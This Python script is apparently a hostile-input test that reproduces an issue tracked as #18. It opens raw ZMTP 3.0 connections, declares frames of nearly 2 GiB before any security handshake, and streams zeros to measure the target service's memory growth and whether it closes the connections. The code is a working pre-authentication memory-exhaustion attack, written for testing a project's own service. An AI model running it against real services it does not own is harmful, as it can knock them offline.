#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Issue #18's reproduction: raw connections that declare huge frames before
any handshake, and what they do to a service's memory.

Each connection speaks just enough ZMTP 3.0 by hand (no libzmq): a greeting
naming MECHANISM, then
  * NULL: a READY command (as a DEALER), then one message frame declaring
    DECLARED MiB;
  * PLAIN or CURVE: one handshake command frame declaring DECLARED MiB (that
    is, before the security handshake);
and then streams up to SEND MiB of zeros into it. Prints the service's VmRSS
and VmHWM (from /proc/PID/status) before and after, and how many connections
the service closed before all their bytes were sent.

  tests/hostile/raw_flood.py --pid PID --tcp 127.0.0.1:PORT [--mechanism NULL]
      [--connections 4] [--declared-mib 1900] [--send-mib 300]
  tests/hostile/raw_flood.py --pid PID --ipc /path/to/socket ...
"""
import argparse
import socket
import struct
import threading
import time


def status_kib(pid, key):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(key + ":"):
                return int(line.split()[1])
    return -1


def greeting(mechanism):
    return (b"\xff" + b"\x00" * 8 + b"\x7f" + bytes([3, 0]) +
            mechanism.encode().ljust(20, b"\x00") + b"\x00" + b"\x00" * 31)


def ready_command():
    name = b"Socket-Type"
    value = b"DEALER"
    body = b"\x05READY" + bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
    return bytes([0x04, len(body)]) + body


def flood(args, result, index):
    if args.ipc:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(args.ipc)
    else:
        host, port = args.tcp.rsplit(":", 1)
        s = socket.create_connection((host, int(port)))
    s.settimeout(10)
    s.sendall(greeting(args.mechanism))
    declared = args.declared_mib << 20
    if args.mechanism == "NULL":
        s.sendall(ready_command())
        s.sendall(b"\x02" + struct.pack(">Q", declared))  # message frame, long size
    else:
        s.sendall(b"\x06" + struct.pack(">Q", declared))  # command frame, long size
    chunk = b"\x00" * (1 << 20)
    sent = 0
    try:
        for _ in range(args.send_mib):
            s.sendall(chunk)
            sent += 1
    except OSError:
        pass
    result[index] = sent
    time.sleep(args.hold)
    s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument("--pid", type=int, required=True, help="the service's process id")
    p.add_argument("--tcp", help="HOST:PORT of the service")
    p.add_argument("--ipc", help="path of the service's ipc socket")
    p.add_argument("--mechanism", default="NULL", choices=["NULL", "PLAIN", "CURVE"])
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--declared-mib", type=int, default=1900)
    p.add_argument("--send-mib", type=int, default=300)
    p.add_argument("--hold", type=float, default=1.0,
                   help="seconds to keep each connection open after sending")
    args = p.parse_args()
    rss0 = status_kib(args.pid, "VmRSS")
    result = [0] * args.connections
    threads = [threading.Thread(target=flood, args=(args, result, i))
               for i in range(args.connections)]
    for t in threads:
        t.start()
    time.sleep(args.hold / 2)
    for t in threads:
        t.join()
    rss1 = status_kib(args.pid, "VmRSS")
    hwm = status_kib(args.pid, "VmHWM")
    cut = sum(1 for r in result if r < args.send_mib)
    print(f"connections {args.connections} mechanism {args.mechanism} declared "
          f"{args.declared_mib} MiB each, sent (MiB) {result}")
    print(f"service RSS before {rss0 / 1024:.1f} MiB, after {rss1 / 1024:.1f} MiB, "
          f"peak {hwm / 1024:.1f} MiB; connections closed by the service before the end: {cut}")


if __name__ == "__main__":
    main()
